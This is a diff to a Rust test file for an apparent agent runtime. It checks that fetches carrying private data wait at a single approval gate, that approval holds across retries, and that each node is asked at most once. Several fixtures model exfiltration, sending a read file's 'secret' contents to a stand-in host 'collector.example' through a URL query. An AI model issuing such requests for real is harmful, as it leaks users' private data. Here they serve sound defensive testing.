@@ -189,6 +189,32 @@ fn a_host_that_only_the_planning_model_wrote_asks_once() {
 }
 
 #[test]
+fn a_host_that_was_allowed_for_good_is_not_asked_about_and_a_piped_request_makes_all_private() {
+    let nodes = || vec![read("a"), fetch("send", "https://collector.example/?d={{a}}", &["a"])];
+    let settings = RunSettings { hosts: vec![HOST.into()], ..open_settings() };
+    let mut world = World::with(plan(nodes()), settings);
+    world.runs("a", "read_file", json!("secret"));
+    assert!(starts(&world.sends("send", "c")));
+    let settings = RunSettings { private_request: true, ..open_settings() };
+    let mut world = World::with(plan(vec![fetch("send", "https://collector.example/", &[])]), settings);
+    assert!(!starts(&world.sends("send", "c")));
+}
+
+#[test]
+fn a_yes_at_the_one_gate_holds_across_retries() {
+    let mut sender = fetch("send", "https://collector.example/?d={{a}}", &["a"]);
+    sender.policy.approve = Some(Approve::Before);
+    sender.policy.retry = Some(Retry { attempts: 2, ..Retry::default() });
+    let mut world = begun(plan(vec![read("a"), sender]));
+    world.runs("a", "read_file", json!("secret"));
+    assert!(!starts(&world.sends("send", "c1")));
+    assert!(starts(&world.decide(1, GateReply::Approve)));
+    world.fail("send", ErrorKind::NothingBegan);
+    world.due("send", TimerKind::Retry);
+    assert!(starts(&world.sends("send", "c2")), "{}", world.states());
+}
+
+#[test]
 fn an_answer_that_was_owed_to_another_question_lets_nothing_out() {
     let mut world = begun(plan(vec![agent("a", &[])]));
     let call = |id: &str| ToolCall { id: id.into(), tool: "fetch_url".into(), args: json!({ "url": "https://collector.example/" }) };
@@ -203,19 +229,21 @@ fn an_answer_that_was_owed_to_another_question_lets_nothing_out() {
 struct DrawnSource {
     work: u8,
     guarded: bool,
+    /// Whether the plan asks before the node.
+    asks: bool,
     sources: BTreeSet<u8>,
 }
 
 fn drawn() -> impl Strategy<Value = Vec<DrawnSource>> {
-    let node = (any::<u8>(), prop::bool::weighted(0.2), prop::collection::btree_set(0_u8..8, 0..3));
-    prop::collection::vec(node.prop_map(|(work, guarded, sources)| DrawnSource { work, guarded, sources }), 2..9)
+    let node = (any::<u8>(), prop::bool::weighted(0.2), prop::bool::weighted(0.3), prop::collection::btree_set(0_u8..8, 0..3));
+    prop::collection::vec(node.prop_map(|(work, guarded, asks, sources)| DrawnSource { work, guarded, asks, sources }), 2..9)
 }
 
 /// The plan, and the nodes that something private reaches, read straight from the drawing.
 fn planned(drawn: &[DrawnSource]) -> (Plan, BTreeMap<String, bool>) {
     let mut private: BTreeMap<String, bool> = BTreeMap::new();
     let mut nodes = Vec::new();
-    for (at, DrawnSource { work, guarded, sources }) in drawn.iter().enumerate() {
+    for (at, DrawnSource { work, guarded, asks, sources }) in drawn.iter().enumerate() {
         let id = format!("n{at}");
         let deps: Vec<String> = sources.iter().filter(|&&source| usize::from(source) < at).map(|source| format!("n{source}")).collect();
         let deps: Vec<&str> = deps.iter().map(String::as_str).collect();
@@ -234,6 +262,7 @@ fn planned(drawn: &[DrawnSource]) -> (Plan, BTreeMap<String, bool>) {
         };
         let guard = deps.first().filter(|_| *guarded);
         node.policy.when = guard.map(|dep| format!("{dep} == 1 or true"));
+        node.policy.approve = (*asks && matches!(work % 9, 7 | 8)).then_some(Approve::Before);
         private.insert(id, is_private || guard.is_some_and(|dep| private[*dep]));
         nodes.push(node);
     }
@@ -249,8 +278,15 @@ proptest! {
         let mut world = begun(plan.clone());
         let (mut said_yes, mut answers) = (false, answers.into_iter());
         // Nodes start in any order that their dependencies allow; the first that works goes on.
-        while let Some(id) = plan.nodes.iter().map(|node| node.id.as_str()).find(|id| world.state(id) == "running") {
+        while let Some(id) = plan.nodes.iter().map(|node| node.id.as_str()).find(|id| matches!(world.state(id), "running" | "waiting")) {
             let doc = plan.nodes.iter().find(|node| node.id.as_str() == id).unwrap();
+            let asks = doc.policy.approve.is_some();
+            if world.state(id) == "waiting" {
+                prop_assert!(asks && !private[id], "{} of {:?}", id, drawn);
+                let gate = world.open()[0];
+                world.decide(gate, GateReply::Approve);
+                continue;
+            }
             let sends = match &doc.kind {
                 NodeKind::Tool(ToolNode { tool, .. }) if tool != "fetch_url" => {
                     world.calls(id, tool, json!(1));
@@ -261,9 +297,11 @@ proptest! {
             };
             if sends {
                 let started = starts(&world.sends(id, "c"));
-                prop_assert_eq!(started, !private[id] || said_yes, "{} of {:?}", id, drawn);
+                let is_free = !private[id] || said_yes && !asks;
+                prop_assert_eq!(started, is_free, "{} of {:?}", id, drawn);
                 if !started {
                     let gate = world.open()[0];
+                    prop_assert_eq!(world.run.gate(GateId(gate)).unwrap().0.host().is_none(), said_yes, "it asks for both at once");
                     let yes = answers.next().unwrap_or(true);
                     let events = world.decide(gate, if yes { GateReply::Approve } else { reject("no") });
                     prop_assert_eq!(starts(&events), yes);
@@ -273,6 +311,10 @@ proptest! {
             if world.state(id) == "running" {
                 world.done(id, json!(1));
             }
+        }
+        for node in &plan.nodes {
+            let gates = world.records.iter().filter(|record| matches!(&record.event, Event::ApprovalRequired { gate } if gate.node == node.id));
+            prop_assert!(gates.count() <= 1, "{} asked twice", node.id);
         }
         for (id, is_private) in &private {
             if world.state(id) == "succeeded" {
